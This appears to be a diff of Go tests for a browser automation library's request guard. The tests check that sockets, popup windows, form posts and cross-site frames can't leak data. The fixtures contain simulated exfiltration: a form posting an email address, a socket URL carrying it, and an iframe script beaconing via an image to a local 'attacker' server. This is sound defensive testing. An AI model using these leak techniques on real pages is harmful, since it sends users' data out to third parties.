@@ -3,12 +3,17 @@ package browser
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
+	"time"
+
+	"vroom/internal/testkit"
 )
 
 // socketSites is a page whose script opens a socket to its own origin
@@ -62,8 +67,8 @@ func openSockets(t *testing.T, tab *Tab, urls ...string) {
 }
 
 // TestGuardRefusesSocketsElsewhere: a guarded tab's socket to its page's
-// own host is opened; one to another host is refused before its
-// handshake leaves, until the holder allows that host; without the guard
+// own origin is opened; one to another host, or to another port of its
+// host, is refused before its handshake leaves, until the holder allows that host; without the guard
 // sockets go anywhere again.
 func TestGuardRefusesSocketsElsewhere(t *testing.T) {
 	t.Parallel()
@@ -79,7 +84,9 @@ func TestGuardRefusesSocketsElsewhere(t *testing.T) {
 	}
 	ownURL := strings.Replace(page.URL, "http://", "ws://", 1) + "/ws"
 	leak := away + "/e?x=ada@example.com"
-	openSockets(t, tab, ownURL, leak)
+	// The page's own host on the attacker's port is another origin.
+	samehost := strings.Replace(away, "localhost", "127.0.0.1", 1) + "/e?x=ada@example.com"
+	openSockets(t, tab, ownURL, leak, samehost)
 	if own.Load() != 1 || hits.Load() != 0 {
 		t.Fatalf("own socket handshakes %d, attacker's %d: want 1 and 0", own.Load(), hits.Load())
 	}
@@ -110,5 +117,134 @@ func TestGuardRefusesSocketsElsewhere(t *testing.T) {
 	openSockets(t, tab, leak)
 	if hits.Load() != 2 {
 		t.Fatalf("unguarded handshakes: %d, want 2", hits.Load())
+	}
+}
+
+// recordingGuard guards tab, refusing every request whose URL holds
+// "leak", and records what it saw.
+type recordingGuard struct {
+	mu   sync.Mutex
+	seen []Request
+}
+
+func (g *recordingGuard) check(_ context.Context, r Request) error {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	g.seen = append(g.seen, r)
+	if strings.Contains(r.URL, "leak") {
+		return errors.New("it leaks")
+	}
+	return nil
+}
+
+// saw returns the requests seen whose URL holds s.
+func (g *recordingGuard) saw(s string) []Request {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	var out []Request
+	for _, r := range g.seen {
+		if strings.Contains(r.URL, s) {
+			out = append(out, r)
+		}
+	}
+	return out
+}
+
+// counter is a server that counts the requests to each path.
+func counter(t *testing.T, body string) (*httptest.Server, func(path string) int32) {
+	t.Helper()
+	var mu sync.Mutex
+	hits := map[string]int32{}
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		hits[r.URL.Path]++
+		mu.Unlock()
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, body)
+	}))
+	t.Cleanup(s.Close)
+	return s, func(path string) int32 {
+		mu.Lock()
+		defer mu.Unlock()
+		return hits[path]
+	}
+}
+
+// TestGuardHoldsWindowsFromTheirFirstRequest: windows a guarded tab's
+// page opens (window.open with and without an opener, a form with a
+// target) have their first navigation checked by the tab's guard, named
+// as their own tab's: refused, it never reaches the server and the
+// window closes; allowed, the window loads and its later requests are
+// held by the same guard.
+func TestGuardHoldsWindowsFromTheirFirstRequest(t *testing.T) {
+	t.Parallel()
+	attacker, hits := counter(t, "gotcha")
+	tab, ctx := openURL(t, site.URL+"/")
+	g := &recordingGuard{}
+	stop, err := tab.Guard(ctx, g.check)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop()
+	eval[any](t, tab, fmt.Sprintf(`(() => {
+  window.open(%[1]q + '/leak-open');
+  window.open(%[1]q + '/leak-noopener', '_blank', 'noopener');
+  const f = document.createElement('form'); f.method = 'post'; f.action = %[1]q + '/leak-form'; f.target = '_blank';
+  const i = document.createElement('input'); i.name = 'e'; i.value = 'ada@example.com'; f.appendChild(i);
+  document.body.appendChild(f); f.submit();
+  window.open('/inner.html?fine');
+  return 1; })()`, attacker.URL))
+	for _, path := range []string{"leak-open", "leak-noopener", "leak-form"} {
+		testkit.WaitFor(t, 10*time.Second, "the guard's check of "+path, func() bool { return len(g.saw(path)) > 0 })
+		r := g.saw(path)[0]
+		if r.Tab == tab.ID() || r.Frame != r.Tab || r.Script {
+			t.Errorf("%s: checked as %+v, want a window's own navigation", path, r)
+		}
+	}
+	if r := g.saw("leak-form"); len(r) == 0 || r[0].Method != "POST" || !strings.Contains(r[0].Body, "ada%40example.com") {
+		t.Errorf("the form's window: %+v", r)
+	}
+	testkit.WaitFor(t, 10*time.Second, "the allowed window's own requests", func() bool { return len(g.saw("favicon")) > 0 || len(g.saw("inner.html?fine")) > 0 })
+	for _, path := range []string{"leak-open", "leak-noopener", "leak-form"} {
+		id := g.saw(path)[0].Tab
+		testkit.WaitFor(t, 10*time.Second, "the refused window closed", func() bool { _, err := testBrowser.Tab(id); return err != nil })
+	}
+	for _, p := range []string{"/leak-open", "/leak-noopener", "/leak-form"} {
+		if n := hits(p); n != 0 {
+			t.Errorf("%s reached the server %d times", p, n)
+		}
+	}
+}
+
+// TestGuardHoldsOutOfProcessFrames: a cross-site frame of a guarded tab,
+// in its own process, loads as the page asked, checked as the frame's;
+// what its script sends is held by the same guard.
+func TestGuardHoldsOutOfProcessFrames(t *testing.T) {
+	t.Parallel()
+	attacker, hits := counter(t, "gotcha")
+	frame, frames := counter(t, fmt.Sprintf(`<!doctype html><p>Pay here</p><script>new Image().src = %q;</script>`, attacker.URL+"/leak-img"))
+	host, _ := counter(t, fmt.Sprintf(`<!doctype html><title>Shop</title><iframe src=%q></iframe>`, strings.Replace(frame.URL, "127.0.0.1", "localhost", 1)+"/pay"))
+	tab, ctx := openURL(t, site.URL+"/")
+	g := &recordingGuard{}
+	stop, err := tab.Guard(ctx, g.check)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop()
+	if _, err := tab.Navigate(ctx, host.URL+"/shop"); err != nil {
+		t.Fatal(err)
+	}
+	testkit.WaitFor(t, 10*time.Second, "the frame's image checked", func() bool { return len(g.saw("leak-img")) > 0 })
+	if frames("/pay") != 1 {
+		t.Errorf("the frame loaded %d times, want 1", frames("/pay"))
+	}
+	if r := g.saw("/pay"); len(r) == 0 || r[0].Frame == tab.ID() {
+		t.Errorf("the frame's load checked as %+v, want the frame's", r)
+	}
+	if r := g.saw("leak-img")[0]; !r.Script || r.Frame == tab.ID() {
+		t.Errorf("the frame's image checked as %+v", r)
+	}
+	if hits("/leak-img") != 0 {
+		t.Error("the frame's image reached the attacker")
 	}
 }
